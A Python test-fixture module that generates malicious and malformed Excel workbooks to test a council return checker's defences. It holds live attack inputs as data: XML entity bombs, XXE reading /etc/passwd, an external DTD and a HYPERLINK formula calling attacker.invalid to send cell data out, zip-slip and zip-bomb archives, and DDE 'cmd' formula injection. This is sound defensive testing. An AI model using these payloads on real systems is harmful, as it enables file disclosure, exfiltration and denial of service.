"""The hostile corpus: every kind of broken, wrongly saved or malicious workbook the council may be
e-mailed, built at test time from one valid return (``builders.write_return``), small on disk.

Each ``Case`` names a builder ``build(folder, base) -> path`` and the outcome the tool must reach:

- ``reason``: one S001 finding with this stable reason, and ``words`` in its sentence;
- ``structure``: otherwise the exact structure (S) findings as ``(code, cell or sheet)``, sorted;
- ``present``: findings of other families that must be among the findings, ``(code, cell)``;
- ``note``: words of a note the report must carry (embedded objects, external links, a limit that
  cut what was read);
- ``exit``: the exit status of ``swtool check`` (0 no errors, 1 errors, S001 included);
- ``heavy``: run in a subprocess under an address-space limit (bombs, huge or odd sheets);
- ``env``: ``SWTOOL_LIMITS`` for the run (to reach a limit behind the pre-flight, or a lowered one with
  a small file).

The bombs are real (a DTD with nested entities, parts that inflate a thousand to one); they are never
opened by anything but the tool under test.
"""

from __future__ import annotations

import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import openpyxl

from swtool.model import standard as std
from swtool.read.workbook import column_letter

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT_NS = "http://purl.oclc.org/ooxml/spreadsheetml/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = {
    "Return": "xl/worksheets/sheet1.xml",
    "Registrations": "xl/worksheets/sheet2.xml",
    "Claims": "xl/worksheets/sheet3.xml",
    "Expenditure": "xl/worksheets/sheet4.xml",
    "Narrative": "xl/worksheets/sheet5.xml",
    "Milestones": "xl/worksheets/sheet6.xml",
}
CLAIMS = std.CLAIMS.headers


def col(sheet_headers, header: str) -> str:
    """The column letter of a template header in a sheet written by write_return."""
    return column_letter(sheet_headers.index(header) + 1)


# --- zip plumbing -----------------------------------------------------------------------------------


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def write_zip(path: Path, content: dict[str, bytes | Callable], level: int = 6) -> Path:
    """A zip of ``content``; a callable value is a generator of chunks, streamed (bombs never sit in memory)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in content.items():
            if callable(data):
                info = zipfile.ZipInfo(name, date_time=(2026, 10, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                with z.open(info, "w", force_zip64=True) as fh:
                    for chunk in data():
                        fh.write(chunk)
            else:
                z.writestr(name, data)
    return path


def rezip(
    base: Path,
    dst: Path,
    *,
    replace: dict | None = None,
    add: dict | None = None,
    drop: tuple[str, ...] = (),
    level: int = 6,
) -> Path:
    content = {n: d for n, d in parts(base).items() if n not in drop}
    content.update(replace or {})
    content.update(add or {})
    return write_zip(dst, content, level)


def edit(base: Path, dst: Path, part: str, fn: Callable[[str], str], **kw) -> Path:
    text = parts(base)[part].decode("utf-8")
    return rezip(base, dst, replace={part: fn(text).encode("utf-8")}, **kw)


def prolog(xml: str, head: str) -> str:
    """Put ``head`` (a DOCTYPE, a comment) before the root element of ``xml``."""
    body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
    return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + head + body


def with_rows(base: Path, dst: Path, sheet: str, rows_xml: str, **kw) -> Path:
    """Add raw ``<row>`` XML at the end of a sheet's data."""
    return edit(base, dst, SHEET[sheet], lambda t: t.replace("</sheetData>", rows_xml + "</sheetData>"), **kw)


def with_shared_strings(base: Path, dst: Path, sst: bytes | Callable, sheet_edit=None, **kw) -> Path:
    """Add a shared-strings part (openpyxl writes inline strings, Excel writes these)."""
    p = parts(base)
    rels = (
        p["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="rIdSST" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        )
    )
    ct = (
        p["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
    )
    replace = {
        "xl/_rels/workbook.xml.rels": rels.encode(),
        "[Content_Types].xml": ct.encode(),
        "xl/sharedStrings.xml": sst,
    }
    if sheet_edit:
        part, fn = sheet_edit
        replace[part] = fn(p[part].decode()).encode()
    return rezip(base, dst, replace=replace, **kw)


def cfb(streams: dict[str, bytes]) -> bytes:
    """A small well-formed Compound File Binary (the container of .xls and of encrypted .xlsx files):
    a 512-byte header, one FAT sector, one directory sector, then each stream in whole sectors (every
    stream is padded to 4,096 bytes so none lives in the mini stream)."""
    assert len(streams) <= 3  # one directory sector holds the root and three entries
    sector, end, free = 512, 0xFFFFFFFE, 0xFFFFFFFF
    data, fat, entries = [], [0xFFFFFFFD, end], []
    for name, payload in streams.items():
        payload = payload.ljust(4096, b"\0")
        start, n = 2 + len(data), len(payload) // sector
        for k in range(n):
            data.append(payload[k * sector : (k + 1) * sector])
            fat.append(start + k + 1 if k < n - 1 else end)
        entries.append((name, start, len(payload)))
    fat += [free] * (sector // 4 - len(fat))

    def entry(name, kind, start, size, child=free, right=free):
        raw = (name + "\0").encode("utf-16-le")
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", free, right, child)
            + b"\0" * 20
            + b"\0" * 16
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, end, 0, child=1 if entries else free)
    for k, (name, start, size) in enumerate(entries, start=1):
        directory += entry(name, 2, start, size, right=k + 1 if k < len(entries) else free)
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    return header + struct.pack("<128I", *fat) + directory.ljust(sector, b"\0") + b"".join(data)


def inline(ref: str, text: str) -> str:
    esc = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{esc}</t></is></c>'


def set_cell(xml: str, ref: str, new_cell: str) -> str:
    """Replace the ``<c r="ref">`` element of a sheet written by openpyxl (the cell must be there)."""
    m = re.search(rf'<c r="{ref}"(?:[^>]*?/>|[^>]*>.*?</c>)', xml, re.DOTALL)
    assert m, f"no cell {ref}"
    return xml[: m.start()] + new_cell + xml[m.end() :]


# --- S001: files that are not a readable return --------------------------------------------------------


def zero_bytes(tmp, base):
    p = tmp / "empty.xlsx"
    p.write_bytes(b"")
    return p


def text_renamed(tmp, base):
    p = tmp / "clients.xlsx"
    p.write_text("Client ref,Postcode\nSW100001,SE1 0AA\n")
    return p


def pdf_renamed(tmp, base):
    p = tmp / "return.xlsx"
    p.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n")
    return p


def truncated(tmp, base):
    p = tmp / "cut.xlsx"
    p.write_bytes(base.read_bytes()[:3000])
    return p


def xls_renamed(tmp, base):
    p = tmp / "return.xlsx"
    p.write_bytes(cfb({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00", "\x05SummaryInformation": b"\xfe\xff"}))
    return p


def xlsm(tmp, base):
    ct = (
        parts(base)["[Content_Types].xml"]
        .decode()
        .replace("spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml")
    )
    return rezip(
        base,
        tmp / "return.xlsm",
        replace={"[Content_Types].xml": ct.encode()},
        add={"xl/vbaProject.bin": cfb({"VBA": b'Attribute VB_Name = "Module1"'})},
    )


def vba_in_xlsx(tmp, base):  # the macro part alone, content types untouched, named .xlsx
    return rezip(base, tmp / "return.xlsx", add={"xl/vbaProject.bin": cfb({"VBA": b"Sub AutoOpen()"})})


def macro_content_type(tmp, base):  # the macro-enabled content type alone, no macro part, named .xlsx
    return edit(
        base,
        tmp / "return.xlsx",
        "[Content_Types].xml",
        lambda t: t.replace("spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"),
    )


def encrypted(tmp, base):
    p = tmp / "return.xlsx"
    p.write_bytes(
        cfb(
            {
                "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                "EncryptedPackage": struct.pack("<Q", 4096) + bytes(range(256)) * 8,
            }
        )
    )
    return p


def bare_cfb_header(tmp, base):  # the magic and a header, nothing in it
    p = tmp / "return.xlsx"
    p.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504)
    return p


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
LAUGH_REF = "&lol9;"


def laughs_in_sheet(tmp, base):
    return edit(
        base,
        tmp / "laughs-sheet.xlsx",
        SHEET["Claims"],
        lambda t: prolog(t, LAUGHS).replace(
            "<sheetData>", f'<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>{LAUGH_REF}</t></is></c></row>', 1
        ),
    )


def laughs_in_workbook(tmp, base):
    return edit(
        base,
        tmp / "laughs-wb.xlsx",
        "xl/workbook.xml",
        lambda t: prolog(t, LAUGHS).replace('name="Milestones"', f'name="M{LAUGH_REF}"'),
    )


def laughs_in_shared_strings(tmp, base):
    sst = (
        f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>{LAUGH_REF}</t>'
        "</si></sst>"
    ).encode()
    return with_shared_strings(base, tmp / "laughs-sst.xlsx", sst)


def laughs_behind_long_comment(tmp, base):  # the DOCTYPE starts 300 KB in, past any first chunk read
    noise = random.Random(7).choices("abcdefghijklmnopqrstuvwxyz ", k=300_000)  # not compressible: no zip bomb
    head = "<!--" + "".join(noise) + "-->" + LAUGHS
    return edit(
        base,
        tmp / "laughs-comment.xlsx",
        SHEET["Claims"],
        lambda t: prolog(t, head).replace(
            "<sheetData>", f'<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>{LAUGH_REF}</t></is></c></row>', 1
        ),
    )


def doctype_behind_comment(tmp, base):  # past the first 4 KB, still inside the first read of the part
    head = "<!--" + "x" * 8000 + '--><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return edit(base, tmp / "dtd-comment.xlsx", "xl/workbook.xml", lambda t: prolog(t, head))


def quadratic_blowup(tmp, base):  # one 100 KB entity, used 10,000 times: 1 GB without nesting
    big = "".join(random.Random(3).choices("abcdefghijklmnopqrstuvwxyz", k=100_000))  # no zip bomb: the DTD decides
    head = '<!DOCTYPE sst [<!ENTITY big "' + big + '">]>'
    sst = (
        f'<?xml version="1.0"?>{head}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>'
        + "&big;" * 10_000
        + "</t></si></sst>"
    ).encode()
    return with_shared_strings(base, tmp / "quadratic.xlsx", sst)


def xxe_local_file(tmp, base):
    head = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return edit(
        base,
        tmp / "xxe.xlsx",
        SHEET["Claims"],
        lambda t: prolog(t, head).replace(
            "<sheetData>", '<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>&xxe;</t></is></c></row>', 1
        ),
    )


def external_dtd(tmp, base):
    head = '<!DOCTYPE workbook SYSTEM "http://attacker.invalid/evil.dtd">'
    return edit(base, tmp / "ext-dtd.xlsx", "xl/workbook.xml", lambda t: prolog(t, head))


def malformed_workbook_xml(tmp, base):
    return edit(base, tmp / "malformed.xlsx", "xl/workbook.xml", lambda t: t[: t.index("</sheets>")])


def malformed_shared_strings(tmp, base):
    sst = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>Claim ref</t><si>'.encode()
    return with_shared_strings(base, tmp / "malformed-sst.xlsx", sst)


def malformed_sheet_xml(tmp, base):  # passes the pre-flight, fails in the XML parser
    return rezip(
        base,
        tmp / "malformed-sheet.xlsx",
        replace={
            SHEET["Claims"]: f'<worksheet xmlns="{MAIN_NS}">'
            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Claim'.encode()
        },
    )


def missing_workbook_part(tmp, base):
    return rezip(base, tmp / "no-workbook.xlsx", drop=("xl/workbook.xml",))


def docx_renamed(tmp, base):
    return write_zip(
        tmp / "return.xlsx",
        {
            "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
        },
    )


def ods_renamed(tmp, base):
    p = tmp / "return.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", "<office:document-content/>")
        z.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return p


def strict_ooxml(tmp, base):
    p = parts(base)
    return rezip(
        base,
        tmp / "strict.xlsx",
        replace={
            n: d.decode().replace(MAIN_NS, STRICT_NS).encode()
            for n, d in p.items()
            if n.startswith("xl/") and n.endswith(".xml")
        },
    )


def zip_slip_dotdot(tmp, base):
    return rezip(base, tmp / "slip.xlsx", add={"../x": b"<x/>"})


def zip_slip_absolute(tmp, base):
    return rezip(base, tmp / "slip-abs.xlsx", add={"/etc/cron.d/swtool": b"* * * * * root true"})


def zip_slip_backslash(tmp, base):
    return rezip(base, tmp / "slip-win.xlsx", add={"xl\\..\\..\\startup.bat": b"echo"})


def many_entries(tmp, base):
    p = rezip(base, tmp / "many.xlsx")
    with zipfile.ZipFile(p, "a", zipfile.ZIP_STORED) as z:  # 20,000 empty parts: nothing to compress
        for i in range(20_000):
            z.writestr(f"xl/media/pad{i}.bin", b"")
    return p


def rezipped(tmp, base):  # a valid return: refused only by the lowered limit of its case
    return rezip(base, tmp / "return.xlsx")


def over_ratio(tmp, base):  # 40 KB of zeros compress about 1,000 to 1
    return rezip(base, tmp / "ratio.xlsx", add={"xl/media/image1.bin": b"\0" * 40_000})


def oversized_part(tmp, base):
    """A part over max_entry_bytes: declared sizes, not inflated bytes, decide (zipfile enforces them,
    so they are a real bound)."""
    return rezip(base, tmp / "big.xlsx", add={"xl/media/pad.bin": b"\0" * (3 << 20)})


def _bomb(row: bytes, total: int):
    def chunks():
        yield f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
        block = row * max(1, (1 << 20) // len(row))
        for _ in range(total // len(block)):
            yield block
        yield b"</sheetData></worksheet>"

    return chunks


def zip_bomb_sheet(tmp, base):  # 96 MB of one repeated row in ~100 KB
    return rezip(
        base,
        tmp / "bomb-sheet.xlsx",
        replace={
            SHEET["Claims"]: _bomb(b'<row><c t="inlineStr"><is><t>' + b"A" * 2000 + b"</t></is></c></row>", 96 << 20)
        },
    )


def zip_bomb_shared_strings(tmp, base):  # 96 MB of shared strings: always loaded whole by openpyxl
    def sst():
        yield f'<sst xmlns="{MAIN_NS}">'.encode()
        block = (b"<si><t>" + b"B" * 4000 + b"</t></si>") * 256
        for _ in range((96 << 20) // len(block)):
            yield block
        yield b"</sst>"

    return with_shared_strings(base, tmp / "bomb-sst.xlsx", sst)


def _patch_sizes(path: Path, member: str, size: int) -> Path:
    """Make the local and the central header of ``member`` declare ``size`` uncompressed bytes."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        offset = z.getinfo(member).header_offset
    assert data[offset : offset + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, offset + 22, size)
    k = data.find(b"PK\x01\x02")
    while k >= 0:
        n = struct.unpack_from("<H", data, k + 28)[0]
        if bytes(data[k + 46 : k + 46 + n]) == member.encode():
            struct.pack_into("<I", data, k + 24, size)
        k = data.find(b"PK\x01\x02", k + 4)
    path.write_bytes(bytes(data))
    return path


def lying_sizes_small(tmp, base):  # the headers say 200 bytes; the part inflates to 2 MB
    p = rezip(
        base,
        tmp / "liar.xlsx",
        replace={
            SHEET["Claims"]: _bomb(b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>", 2 << 20)
        },
    )
    return _patch_sizes(p, SHEET["Claims"], 200)


def lying_sizes_large(tmp, base):  # the headers say 3 GB for a 2 KB part
    return _patch_sizes(rezip(base, tmp / "liar-big.xlsx"), SHEET["Claims"], 3 << 30)


def reader_time_limit(tmp, base):  # 4 million cells without coordinates: a long read the child must not finish
    row = b"<row>" + b"<c><v>1</v></c>" * 20 + b"</row>"
    return rezip(base, tmp / "slow.xlsx", replace={SHEET["Claims"]: _bomb(row, 60 << 20)})


def reader_memory_limit(tmp, base):  # 150 MB of distinct long strings held by the reader
    row = b'<row><c t="inlineStr"><is><t>' + b"M" * 30_000 + b"</t></is></c></row>"
    return rezip(base, tmp / "greedy.xlsx", replace={SHEET["Claims"]: _bomb(row, 150 << 20)}, level=1)


def shared_string_amplifier(tmp, base):
    """One 40,000-character shared string referenced by 20,000 cells: 300 KB on disk, 800 M characters
    if each reference became its own copy."""
    sst = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>{"W" * 40_000}</t></si></sst>'.encode()
    rows = "".join(f'<row r="{r}"><c r="B{r}" t="s"><v>0</v></c></row>' for r in range(20, 20_020))
    return with_shared_strings(
        base,
        tmp / "amplifier.xlsx",
        sst,
        sheet_edit=(SHEET["Narrative"], lambda t: t.replace("</sheetData>", rows + "</sheetData>")),
    )


def invalid_sheet_name(tmp, base):
    return edit(
        base, tmp / "bad-name.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name="Q2/2026"')
    )


def blank_sheet_name(tmp, base):
    return edit(base, tmp / "blank-name.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name=" "'))


def duplicate_sheet_names(tmp, base):
    return edit(
        base, tmp / "dup-names.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name="CLAIMS"')
    )


def duplicate_sheet_names_exact(tmp, base):
    return edit(
        base, tmp / "dup-names-exact.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name="Claims"')
    )


def all_sheets_hidden(tmp, base):
    return edit(
        base, tmp / "all-hidden.xlsx", "xl/workbook.xml", lambda t: t.replace('state="visible"', 'state="hidden"')
    )


# --- files that open: a clean read or specific findings ------------------------------------------------


def embedded_ole_activex(tmp, base):
    return rezip(
        base,
        tmp / "ole.xlsx",
        add={
            "xl/embeddings/oleObject1.bin": cfb({"\x01Ole10Native": b"MZ\x90\x00 payload"}),
            "xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>',
            "xl/activeX/activeX1.bin": cfb({"contents": b"\x00" * 64}),
        },
    )


def external_link(tmp, base):
    p = parts(base)
    wb = (
        p["xl/workbook.xml"]
        .decode()
        .replace(
            "<definedNames", '<externalReferences><externalReference r:id="rIdX1"/></externalReferences><definedNames'
        )
    )
    rels = (
        p["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="rIdX1" Type="{REL_NS}/externalLink" '
            'Target="externalLinks/externalLink1.xml"/></Relationships>',
        )
    )
    ct = (
        p["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        )
    )
    link = (
        f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Pay"/></sheetNames></externalBook></externalLink>'
    ).encode()
    link_rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="file:///\\\\attacker.invalid\\share\\pay.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    return rezip(
        base,
        tmp / "links.xlsx",
        replace={
            "xl/workbook.xml": wb.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "[Content_Types].xml": ct.encode(),
        },
        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
    )


def lying_dimension(tmp, base):
    return rezip(
        base,
        tmp / "dimension.xlsx",
        replace={
            n: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', d.decode()).encode()
            for n, d in parts(base).items()
            if n.startswith("xl/worksheets/")
        },
    )


def stray_far_cell(tmp, base):
    return with_rows(base, tmp / "stray.xlsx", "Claims", '<row r="1048576">' + inline("XFD1048576", "stray") + "</row>")


def wide_row(tmp, base):  # the header row of Claims runs on to column XFD: 16,384 cells
    cells = "".join(inline(f"{column_letter(j)}1", f"Extra {j}") for j in range(len(CLAIMS) + 1, 16_385))
    return edit(base, tmp / "wide.xlsx", SHEET["Claims"], lambda t: t.replace("</row>", cells + "</row>", 1))


def formula_without_value(tmp, base):
    def fn(t):
        t = set_cell(t, f"{col(CLAIMS, 'Weekly hours')}2", f'<c r="{col(CLAIMS, "Weekly hours")}2"><f>30+7.5</f></c>')
        return t

    return edit(base, tmp / "formula-novalue.xlsx", SHEET["Claims"], fn)


def formula_forged_value(tmp, base):  # the formula says "2a"; the value saved with it says "9z"
    ref = f"{col(CLAIMS, 'Output')}2"
    return edit(
        base,
        tmp / "formula-forged.xlsx",
        SHEET["Claims"],
        lambda t: set_cell(t, ref, f'<c r="{ref}" t="str"><f>"2a"</f><v>9z</v></c>'),
    )


INJECTION = {
    "Output": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
    "Employer": "+cmd|' /C calc'!A0",
    "Evidence reference": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def formula_injection_text(tmp, base):
    def fn(t):
        for header, text in INJECTION.items():
            ref = f"{col(CLAIMS, header)}2"
            t = set_cell(t, ref, inline(ref, text))
        return t

    return edit(base, tmp / "injection.xlsx", SHEET["Claims"], fn)


def _openpyxl_edit(base: Path, dst: Path, fn) -> Path:
    wb = openpyxl.load_workbook(base)
    fn(wb)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    c.data_type = "s"
    wb.save(dst)
    return dst


DATE_FORMS = [  # (value in Milestones' Date achieved, number format or None)
    (datetime(2026, 9, 3), "DD/MM/YYYY"),  # row 2: a real date
    (46268, None),  # row 3: the serial of 03/09/2026, its format lost (S007)
    ("03/09/2026", None),  # row 4: text, UK order (S007)
    ("2026-09-03", None),  # row 5: text, ISO (S007)
    ("3rd September", None),  # row 6: not a date (S004)
    (0, "DD/MM/YYYY"),  # row 7: serial 0 comes back as a time (S004)
    (60, "DD/MM/YYYY"),  # row 8: Excel's 29/02/1900 comes back as 28/02/1900
    (date(2026, 9, 3), "DD/MM/YYYY"),  # row 9: a date cell
    (-1, "DD/MM/YYYY"),  # row 10: before Excel's epoch: a number (S004)
    ("31/02/2026", None),  # row 11: no such day (S004)
]


def dates_every_form(tmp, base):
    def fn(wb):
        ws = wb["Milestones"]
        d = std.MILESTONES.headers.index("Date achieved") + 1
        for i, (value, fmt) in enumerate(DATE_FORMS):
            r = 2 + i
            ws.cell(r, 1, f"Milestone {i + 1}")
            ws.cell(r, 2, datetime(2026, 9, 30)).number_format = "DD/MM/YYYY"
            c = ws.cell(r, d, value)
            if fmt:
                c.number_format = fmt

    return _openpyxl_edit(base, tmp / "dates.xlsx", fn)


def dates_1904(tmp, base):
    def fn(wb):
        wb.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904

    return _openpyxl_edit(base, tmp / "mac-1904.xlsx", fn)


def merged_two_row_header(tmp, base, split: str = "Employer"):
    """Row 1: the headers up to ``split`` merged down over rows 1-2, then a group label merged across
    the rest; row 2: the rest of the headers; data from row 3. With an early split most names are in
    row 2 (the row above lends the others), with a late one in row 1 (the row below lends them)."""

    def fn(wb):
        ws = wb["Claims"]
        data = [c.value for c in ws[2]]
        ws.delete_rows(1, 2)
        k = CLAIMS.index(split)
        for j, h in enumerate(CLAIMS, start=1):
            if j <= k:
                ws.cell(1, j, h)
                ws.merge_cells(start_row=1, start_column=j, end_row=2, end_column=j)
            else:
                ws.cell(2, j, h)
        ws.cell(1, k + 1, "The job")
        ws.merge_cells(start_row=1, start_column=k + 1, end_row=1, end_column=len(CLAIMS))
        for j, v in enumerate(data, start=1):
            ws.cell(3, j, v)

    return _openpyxl_edit(base, tmp / "two-row-header.xlsx", fn)


def merged_two_row_header_late(tmp, base):
    return merged_two_row_header(tmp, base, split="Qualification gained")


def header_not_in_row_1(tmp, base):
    """A merged title, a blank row, notes, and the header on row 6 starting in column C."""

    def fn(wb):
        ws = wb["Claims"]
        data = [c.value for c in ws[2]]
        ws.delete_rows(1, 2)
        ws["A1"] = "Southwark Works: claims, 2026/27 Q2"
        ws.merge_cells("A1:H1")
        ws["A3"] = "One row per output claimed."
        ws["A4"] = "Do not change the headers."
        for j, (h, v) in enumerate(zip(CLAIMS, data), start=3):
            ws.cell(6, j, h)
            ws.cell(7, j, v)

    return _openpyxl_edit(base, tmp / "header-row-6.xlsx", fn)


def hidden_sheets(tmp, base):
    """Claims hidden and made the active sheet; a very hidden sheet of lookups."""

    def fn(wb):
        secret = wb.create_sheet("Lookups")
        secret["A1"] = "=cmd|' /C calc'!A0"
        secret.sheet_state = "veryHidden"
        wb["Claims"].sheet_state = "hidden"
        wb.active = wb.sheetnames.index("Claims")

    return _openpyxl_edit(base, tmp / "hidden.xlsx", fn)


def hidden_rows(tmp, base):
    def fn(wb):
        ws = wb["Claims"]
        template = [c.value for c in ws[2]]
        for j, v in enumerate(template, start=1):
            ws.cell(3, j, v)
        ws.cell(3, 1, "CL-0002")
        ws.cell(3, CLAIMS.index("Output") + 1, "zz")
        ws.row_dimensions[3].hidden = True

    return _openpyxl_edit(base, tmp / "hidden-rows.xlsx", fn)


def duplicate_and_blank_headers(tmp, base):
    def fn(wb):
        ws = wb["Claims"]
        n = len(CLAIMS)
        ws.cell(1, n + 1, "Output")  # a second Output column
        ws.cell(2, n + 1, "9z")
        ws.cell(2, n + 2, "no header")  # data under a blank header

    return _openpyxl_edit(base, tmp / "dup-headers.xlsx", fn)


def invisible_characters_in_headers(tmp, base):
    def fn(wb):
        ws = wb["Claims"]
        ws.cell(1, 1).value = "\ufeffClaim ref"
        ws.cell(1, 2).value = "Client\u00a0ref"
        ws.cell(1, 3).value = "Out\u200bput"
        ws.cell(1, 4).value = " Date achieved\u2060 "  # a word joiner

    return _openpyxl_edit(base, tmp / "invisible.xlsx", fn)


REGS = std.REGISTRATIONS.headers


def cyrillic_postcode(tmp, base):
    def fn(wb):
        wb["Registrations"].cell(2, REGS.index("Postcode") + 1).value = "SE1 0\u0410\u0410"  # Cyrillic А

    return _openpyxl_edit(base, tmp / "postcode.xlsx", fn)


def lookalike_client_ref(tmp, base):
    def fn(wb):
        wb["Claims"].cell(2, CLAIMS.index("Client ref") + 1).value = "SW1\u041e\u041e001"  # Cyrillic О

    return _openpyxl_edit(base, tmp / "client-ref.xlsx", fn)


def fullwidth_client_ref(tmp, base):  # NFKC makes it ASCII: read, and said so
    def fn(wb):
        wb["Claims"].cell(2, CLAIMS.index("Client ref") + 1).value = "ＳＷ１００００１"

    return _openpyxl_edit(base, tmp / "fullwidth.xlsx", fn)


def megabyte_cell(tmp, base):
    ref = "B2"  # Narrative: "Activities and progress"
    return edit(
        base,
        tmp / "megabyte.xlsx",
        SHEET["Narrative"],
        lambda t: set_cell(t, ref, inline(ref, " ".join(random.Random(5).choices(WORDS, k=150_000)))),
    )


WORDS = (
    "outreach",
    "Walworth",
    "hub",
    "referrals",
    "clients",
    "employer",
    "training",
    "sessions",
    "advice",
    "Peckham",
    "Bermondsey",
    "jobs",
    "CV",
    "interview",
    "support",
    "weekly",
    "mentoring",
    "placement",
)


# What XML 1.0 can carry into a cell: CR (as &#13;), DEL, C1 controls (U+009B is the 8-bit CSI some
# terminals obey), bidi overrides, zero-width characters, Rich/Textual markup. (ESC cannot be in XML;
# Excel's _x001B_ escape stays literal text in openpyxl.)
CONTROL = "\r\u009b2J\x7f_x001B_[@click=app.quit][bold red]2a\u202e\u200b"


def control_and_markup(tmp, base):
    def fn(t):
        ref = f"{col(CLAIMS, 'Output')}2"
        t = set_cell(t, ref, inline(ref, CONTROL))
        ref = f"{col(CLAIMS, 'Employer')}2"
        return set_cell(t, ref, inline(ref, "[link=file:///etc/passwd]Borough Market[/link]\u0085\r"))

    return edit(base, tmp / "markup.xlsx", SHEET["Claims"], fn)


def deep_nesting(tmp, base):
    rnd = random.Random(50_000)  # one generator: seeding one per name took seconds
    names = ["".join(rnd.choices("abcdefghijklmnopqrstuvwxyz", k=4)) for _ in range(50_000)]
    deep = "".join(f"<{n}>" for n in names) + "".join(f"</{n}>" for n in reversed(names))  # no zip bomb
    p = parts(base)
    return rezip(
        base,
        tmp / "deep.xlsx",
        replace={
            "xl/workbook.xml": p["xl/workbook.xml"]
            .decode()
            .replace("<definedNames", f"<extLst>{deep}</extLst><definedNames")
            .encode(),
            SHEET["Claims"]: p[SHEET["Claims"]]
            .decode()
            .replace("</sheetData>", f"</sheetData><extLst>{deep}</extLst>")
            .encode(),
        },
    )


